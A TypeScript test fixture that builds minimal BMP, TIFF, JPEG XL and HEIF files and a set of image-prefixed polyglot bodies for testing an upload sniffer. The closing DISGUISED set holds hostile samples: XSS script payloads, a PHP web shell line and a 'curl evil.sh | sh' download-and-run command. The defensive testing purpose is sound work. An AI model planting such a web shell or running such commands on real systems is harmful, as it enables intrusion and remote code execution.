// Minimal real image files built byte by byte (formats sharp cannot write here), and the
// bodies that only start like an image, for the sniffer, upload() and the backend fetch.

/** A 1×1 24-bit BMP: a 14-byte file header, a 40-byte BITMAPINFOHEADER (or a 12-byte BITMAPCOREHEADER), one padded pixel row. */
export function bmp(headerSize: 40 | 12 = 40): Buffer {
  const pixels = 14 + headerSize
  const file = Buffer.alloc(pixels + 4)
  file.write('BM', 0, 'latin1')
  file.writeUInt32LE(file.length, 2)
  file.writeUInt32LE(pixels, 10)
  file.writeUInt32LE(headerSize, 14)
  if (headerSize === 12) {
    file.writeUInt16LE(1, 18) // width
    file.writeUInt16LE(1, 20) // height
    file.writeUInt16LE(1, 22) // planes
    file.writeUInt16LE(24, 24) // bits a pixel
  } else {
    file.writeInt32LE(1, 18)
    file.writeInt32LE(1, 22)
    file.writeUInt16LE(1, 26)
    file.writeUInt16LE(24, 28)
    file.writeUInt32LE(4, 34) // image size
    file.writeInt32LE(2835, 38) // 72 dpi
    file.writeInt32LE(2835, 42)
  }
  file.set([0x33, 0x33, 0xcc], pixels) // one red pixel, blue-green-red
  return file
}

/** A 1×1 8-bit grey baseline TIFF, little-endian (`II*\0`) or big-endian (`MM\0*`). */
export function tiff(littleEndian: boolean): Buffer {
  const SHORT = 3
  const LONG = 4
  const entries: [tag: number, type: number, value: number][] = [
    [256, SHORT, 1], // ImageWidth
    [257, SHORT, 1], // ImageLength
    [258, SHORT, 8], // BitsPerSample
    [259, SHORT, 1], // Compression: none
    [262, SHORT, 1], // PhotometricInterpretation: black is zero
    [273, LONG, 0], // StripOffsets: set below
    [277, SHORT, 1], // SamplesPerPixel
    [278, SHORT, 1], // RowsPerStrip
    [279, LONG, 1], // StripByteCounts
  ]
  const ifd = 8
  const pixel = ifd + 2 + entries.length * 12 + 4
  const file = Buffer.alloc(pixel + 1)
  const u16 = (value: number, at: number) =>
    littleEndian ? file.writeUInt16LE(value, at) : file.writeUInt16BE(value, at)
  const u32 = (value: number, at: number) =>
    littleEndian ? file.writeUInt32LE(value, at) : file.writeUInt32BE(value, at)
  file.write(littleEndian ? 'II' : 'MM', 0, 'latin1')
  u16(42, 2)
  u32(ifd, 4)
  u16(entries.length, ifd)
  entries.forEach(([tag, type, value], i) => {
    const at = ifd + 2 + i * 12
    u16(tag, at)
    u16(type, at + 2)
    u32(1, at + 4)
    // A value shorter than 4 bytes sits at the start of the value field.
    if (type === SHORT) u16(value, at + 8)
    else u32(tag === 273 ? pixel : value, at + 8)
  })
  // The next-IFD offset (0: none) is already zero; so is the pixel, black.
  return file
}

/**
 * The start of a JPEG XL file in its container form: the signature box, the `ftyp` box
 * (brand `jxl `), and a `jxlc` box holding a codestream's first bytes.
 */
export function jxlContainer(): Buffer {
  return Buffer.concat([
    Buffer.from([0, 0, 0, 0x0c, 0x4a, 0x58, 0x4c, 0x20, 0x0d, 0x0a, 0x87, 0x0a]),
    Buffer.from([0, 0, 0, 0x14]),
    Buffer.from('ftypjxl \0\0\0\0jxl ', 'latin1'),
    Buffer.from([0, 0, 0, 0x0c]),
    Buffer.from('jxlc', 'latin1'),
    Buffer.from([0xff, 0x0a, 0x00, 0x00]),
  ])
}

/** Whole JPEG XL files as bare codestreams, as `cjxl` 0.7 writes by default (8×8 lossy, 300×200 lossless with alpha). */
export const JXL_CODESTREAMS: readonly Buffer[] = [
  Buffer.from(
    'ff0a41404271210012880200d4005de5120000152aa38c1bbc9cebf9f24387c5b48deb0c6db56d6149a2c8383649277048124bc0c6053c030360cc5c9fd440892b4900',
    'hex',
  ),
  Buffer.from(
    'ff0a31c182e2420808100064000000400214004b188b1500d41b6330762f200180a10a4d002001920500600ea335a114207baa9b02b34f675700',
    'hex',
  ),
]

/**
 * The `ftyp` box a HEIF file starts with (brand `heic`, compatible `mif1`, `heic`), and the
 * start of the `meta` box that follows it.
 */
export function heifHeader(): Buffer {
  return Buffer.concat([
    Buffer.from([0, 0, 0, 24]),
    Buffer.from('ftypheic\0\0\0\0mif1heic', 'latin1'),
    Buffer.from([0, 0, 0, 16]),
    Buffer.from('meta', 'latin1'),
    Buffer.alloc(8),
  ])
}

/** Every hand-built image above, by name, with the format it is. */
export const BUILT_IMAGES: Readonly<Record<string, { readonly bytes: Buffer; readonly format: string }>> = {
  'bmp (info header)': { bytes: bmp(40), format: 'bmp' },
  'bmp (core header)': { bytes: bmp(12), format: 'bmp' },
  'tiff (little-endian)': { bytes: tiff(true), format: 'tiff' },
  'tiff (big-endian)': { bytes: tiff(false), format: 'tiff' },
  'heif (ftyp box)': { bytes: heifHeader(), format: 'heif' },
  'jxl (container)': { bytes: jxlContainer(), format: 'jxl' },
  'jxl (codestream, 8×8 lossy)': { bytes: JXL_CODESTREAMS[0] as Buffer, format: 'jxl' },
  'jxl (codestream, 300×200 lossless)': { bytes: JXL_CODESTREAMS[1] as Buffer, format: 'jxl' },
}

/** Bodies whose first bytes are those of an image and whose rest is a script (a reviewer's finding). */
export const DISGUISED: Readonly<Record<string, Buffer>> = {
  'BM + HTML/JS (bmp)': Buffer.from('BM<html><script>alert(document.domain)</script></html>'),
  'BM + shell script (bmp)': Buffer.from('BM\n#!/bin/sh\ncurl evil.sh | sh\n'),
  'FF 0A + SVG (bare jxl)': Buffer.concat([Buffer.from([0xff, 0x0a]), Buffer.from('<svg onload=alert(1)>')]),
  'II*\\0 + PHP (tiff)': Buffer.from('II*\0<?php system($_GET[c]); ?>'),
  'GIF89a + HTML/JS (gif)': Buffer.from('GIF89a<html><script>alert(document.domain)</script></html>'),
  'GIF89a + JS, the GIF/JS polyglot (gif)': Buffer.from('GIF89a=1;alert(document.domain)//'),
  'RIFF…WEBP + HTML (webp)': Buffer.from('RIFF    WEBPVP8 <html><script>alert(document.domain)</script>'),
  'ftyp avif + HTML (avif)': Buffer.concat([
    Buffer.from([0, 0, 0, 16]),
    Buffer.from('ftypavif\0\0\0\0<html><script>alert(document.domain)</script>', 'latin1'),
  ]),
  'FF D8 FF + HTML (jpeg)': Buffer.from(
    '\xff\xd8\xff\xe0<html><script>alert(document.domain)</script>',
    'latin1',
  ),
  'PNG signature + HTML (png)': Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    Buffer.from('<html><script>alert(document.domain)</script>'),
  ]),
  'GIF89a + JS, the polyglot padded to a block mark (gif)': Buffer.from(
    'GIF89a=123456;alert(document.domain)//',
  ),
  'GIF89a + JS, an image mark (gif)': Buffer.from('GIF89a=123456,alert(document.domain)//'),
  'GIF87a + HTML behind a trailer (gif)': Buffer.from('GIF87a<html>\0;<script>alert(1)</script>'),
  'GIF89a alone (gif)': Buffer.from('GIF89a'),
  'FF D8 FF alone (jpeg)': Buffer.from([0xff, 0xd8, 0xff]),
  'PNG signature alone (png)': Buffer.from('89504e470d0a1a0a', 'hex'),
}
